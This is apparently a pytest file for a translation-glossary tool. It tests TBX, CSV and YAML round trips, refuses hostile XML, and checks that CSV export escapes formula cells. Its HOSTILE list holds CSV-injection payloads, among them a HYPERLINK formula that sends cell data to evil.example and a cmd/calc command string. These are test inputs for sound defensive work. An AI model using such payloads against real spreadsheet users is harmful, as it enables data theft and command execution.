"""Term base exchange: TBX and CSV out and back without loss, other tools' TBX in, hostile XML refused."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from translate.storage import tbx

from conftest import DATA, ROOT
from tilmech.errors import InputError
from tilmech.glossary import load_glossary
from tilmech.glossary.exchange import read_csv, read_tbx, write_csv, write_tbx, write_yaml

TERMS = load_glossary(ROOT / "glossary", ROOT).terms
LANGS = ("ru", "ky", "zh")


def _bare(terms):  # type: ignore[no-untyped-def]
    return [dataclasses.replace(t, source="") for t in terms]


def test_tbx_round_trip_loses_nothing() -> None:
    assert _bare(read_tbx(write_tbx(TERMS, LANGS), "x.tbx")) == _bare(TERMS)


def test_csv_round_trip_loses_nothing() -> None:
    assert _bare(read_csv(write_csv(TERMS, LANGS), "x.csv")) == _bare(TERMS)


def test_yaml_writer_reads_back() -> None:
    from tilmech.glossary import read_glossary

    assert _bare(read_glossary(write_yaml(TERMS), "x.yaml")) == _bare(TERMS)


def test_translate_toolkit_reads_our_tbx() -> None:
    store = tbx.tbxfile.parsestring(write_tbx(TERMS, LANGS).encode("utf-8"))
    units = {u.getid(): u for u in store.units}
    assert len(units) == len(TERMS)
    assert units["knu-full-name"].source == "Kyrgyz National University"
    assert units["knu-full-name"].target == "Кыргызский национальный университет"


def test_tbx_of_another_tool_maps_statuses() -> None:
    smart, euras = read_tbx((DATA / "tbx" / "from-another-tool.tbx").read_text(encoding="utf-8"), "x.tbx")
    assert (smart.id, smart.en, smart.variants, smart.pos) == ("smart-classroom", "Smart Classroom",
                                                               ("Smart-Classroom",), "noun")
    assert smart.translations["ru"].term == "Умный класс"
    assert smart.translations["ru"].allowed == ("Смарт-класс",)
    assert smart.forbidden == {"ru": ("Интеллектуальная аудитория",), "zh": ("智能教室",)}
    assert smart.translations["zh"].term == "智慧教室"
    assert smart.note == "The product name of UNESCO-ICHEI's classrooms."
    assert euras.dnt and euras.translations == {}


@pytest.mark.parametrize("name", ["entity-bomb.tbx", "external-entity.tbx"])
def test_hostile_xml_is_refused(name: str) -> None:
    with pytest.raises(InputError, match=rf"^{name}: refused"):
        read_tbx((DATA / "tbx" / name).read_text(encoding="utf-8"), name)


def test_csv_without_the_header_is_an_error() -> None:
    with pytest.raises(InputError, match=r"^x.csv:1: the header row needs the columns id, en"):
        read_csv("KNU,КНУ\n", "x.csv")


def test_import_reports_added_changed_skipped(pseudo_project: Path, tilmech, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    exported = tilmech("--project", pseudo_project, "glossary", "export", "--format", "tbx")
    assert exported.code == 0
    edited = exported.out.replace("<term>КНУ</term>", "<term>КНУ им. Ж. Баласагына</term>")
    (tmp_path / "edited.tbx").write_text(edited, encoding="utf-8")
    result = tilmech("--project", pseudo_project, "glossary", "import", tmp_path / "edited.tbx")
    assert result.code == 0, result
    lines = result.out.splitlines()
    assert lines[:2] == ["added 0", "changed 1: knu"]
    assert lines[2].startswith(f"skipped {len(TERMS) - 1}: unesco-ichei, ichei, ")
    result = tilmech("--project", pseudo_project, "glossary", "import", DATA / "tbx" / "from-another-tool.tbx")
    assert result.out.splitlines() == ["added 2: smart-classroom, euras", "changed 0", "skipped 0"]
    merged = load_glossary(pseudo_project / "glossary", pseudo_project)
    assert merged.get("knu").translations["ru"].term == "КНУ им. Ж. Баласагына"  # type: ignore[union-attr]
    assert merged.get("smart-classroom").source.startswith("glossary/imported.yaml:")  # type: ignore[union-attr]
    # the imported term is enforced from now on
    check = tilmech("--project", pseudo_project, "glossary", "verify", "--lang", "ru",
                    "--source", "The Smart Classroom opened.", "--target", "Открылась интеллектуальная аудитория.")
    assert check.code == 1 and "term-forbidden smart-classroom" in check.out


def test_a_conflicting_import_writes_nothing(pseudo_project: Path, tilmech, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    before = {p.name: p.read_bytes() for p in (pseudo_project / "glossary").iterdir()}
    clash = tmp_path / "clash.csv"
    clash.write_text("id,en,variants,ru\nkyrgyz-uni,Kyrgyz University,KNU,КУ\n", encoding="utf-8")
    result = tilmech("--project", pseudo_project, "glossary", "import", clash)
    assert result.code == 2
    assert "English form 'KNU' of term 'kyrgyz-uni' is also a form of term 'knu'" in result.err
    assert {p.name: p.read_bytes() for p in (pseudo_project / "glossary").iterdir()} == before


def test_import_validates_against_the_schema(pseudo_project: Path, tilmech, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "bad.csv"
    bad.write_text("id,en,pos,fr\nx,Something,verb,Quelque chose\n", encoding="utf-8")
    result = tilmech("--project", pseudo_project, "glossary", "import", bad)
    assert result.code == 2 and result.err.startswith("error: bad.csv:")
    assert "terms[0].pos" in result.err and "terms[0].translations.fr" in result.err
    assert not (pseudo_project / "glossary" / "imported.yaml").exists()


HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "'=quoted already", "''-twice", "it's fine", "'plain quote", "a\rb")


def test_csv_cells_never_start_a_formula_and_come_back_unchanged(pseudo_project: Path, tilmech, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """OWASP's advice against CSV injection: a ' before =, +, -, @, tab and CR; our import takes it off."""
    import csv
    import io

    from tilmech.glossary.model import Rendering, Term

    def term(i: int, text: str) -> Term:
        return Term(f"t{i}", text, ("x", text), False, {"ru": Rendering(text, (), True, text)}, {"ru": (text,)},
                    True, text, "", "noun", "approved")

    terms = [term(i, text) for i, text in enumerate(HOSTILE)]
    for whitespace in ("\tTab", "\rReturn"):  # surrounding white space is not kept (cells are stripped)
        terms.append(dataclasses.replace(term(len(terms), whitespace), variants=(whitespace.strip(),)))
    written = write_csv(terms, ["ru"])
    rows = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert len(rows) == len(terms)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[0][1] == "'" + HOSTILE[0] and rows[4][1] == "''=quoted already" and rows[6][1] == "it's fine"
    back = _bare(read_csv(written, "x.csv"))
    assert back[:len(HOSTILE)] == _bare(terms)[:len(HOSTILE)]
    assert [(t.en, t.note, t.translations["ru"].term) for t in back[len(HOSTILE):]] == [
        ("Tab", "Tab", "Tab"), ("Return", "Return", "Return")]

    # through the commands: a hostile term exported, then the export imported back unchanged
    (pseudo_project / "glossary" / "hostile.yaml").write_text(
        "terms:\n  - id: formula\n    en: \"=1+2\"\n    pos: noun\n    translations:\n      ru: \"-Формула\"\n",
        encoding="utf-8")
    exported = tilmech("--project", pseudo_project, "glossary", "export", "--format", "csv")
    assert exported.code == 0, exported
    assert "\nformula,'=1+2," in exported.out and ",'-Формула," in exported.out
    (tmp_path / "back.csv").write_text(exported.out, encoding="utf-8")
    again = tilmech("--project", pseudo_project, "glossary", "import", tmp_path / "back.csv")
    assert again.code == 0, again
    assert again.out.splitlines()[:2] == ["added 0", "changed 0"]
    term = load_glossary(pseudo_project / "glossary", pseudo_project).get("formula")
    assert term is not None and (term.en, term.translations["ru"].term) == ("=1+2", "-Формула")


# -- do-not-translate in some languages only -----------------------------------------------------

EXTRA = load_glossary(DATA / "glossary-extra", ROOT).terms


def test_per_language_dnt_round_trips_through_tbx_csv_and_yaml_without_loss() -> None:
    from tilmech.glossary import read_glossary

    kept = next(t for t in EXTRA if t.id == "ichei-centre")
    assert (kept.dnt, kept.kept, kept.rendering("ru"), kept.rendering("zh")) == (
        False, ("ru", "ky"), "ICHEI Centre", "高等教育创新中心")
    assert _bare(read_tbx(write_tbx(EXTRA, LANGS), "x.tbx")) == _bare(EXTRA)
    assert _bare(read_csv(write_csv(EXTRA, LANGS), "x.csv")) == _bare(EXTRA)
    assert _bare(read_glossary(write_yaml(EXTRA), "x.yaml")) == _bare(EXTRA)


def test_a_tbx_that_keeps_the_english_term_in_some_languages_keeps_them_on_import() -> None:
    """Another tool's TBX: the languages whose term equals the English one are do-not-translate there."""
    (term,) = read_tbx((DATA / "tbx" / "per-language-dnt.tbx").read_text(encoding="utf-8"), "p.tbx")
    assert (term.dnt, term.kept, term.allowed("ru"), term.allowed("zh")) == (
        False, ("ru", "ky"), ("ICHEI Centre",), ("高等教育创新中心",))
    assert term.forbidden == {"ru": ("Центр ИЧЕИ",)}
    # and a transliteration or a missing term is found there after the import
    from tilmech.glossary import Glossary, TermMatcher

    matcher = TermMatcher(Glossary((term,), "x"))
    assert [i.code for i in matcher.verify("The ICHEI Centre opened.", "Центр ИЧЕИ открылся.", "ru")] == [
        "term-forbidden"]
    assert [i.code for i in matcher.verify("The ICHEI Centre opened.", "Центр открылся.", "ky")] == ["term-missing"]


def test_translate_toolkit_reads_the_per_language_export() -> None:
    store = tbx.tbxfile.parsestring(write_tbx(EXTRA, LANGS).encode("utf-8"))
    units = {u.getid(): u for u in store.units}
    assert units["ichei-centre"].source == "ICHEI Centre"
    assert units["ichei-centre"].target == "ICHEI Centre"  # its first target language, Russian, keeps it
    assert units["smart-classroom"].target == "смарт-класс"


def test_a_language_kept_and_translated_at_once_is_refused() -> None:
    from tilmech.errors import ConfigError
    from tilmech.glossary import read_glossary

    with pytest.raises(ConfigError, match=r"g.yaml:2: terms\[0\]: ru: both kept as written"):
        read_glossary("terms:\n  - id: x\n    en: X\n    dnt: [ru]\n    translations: {ru: Икс}\n", "g.yaml")
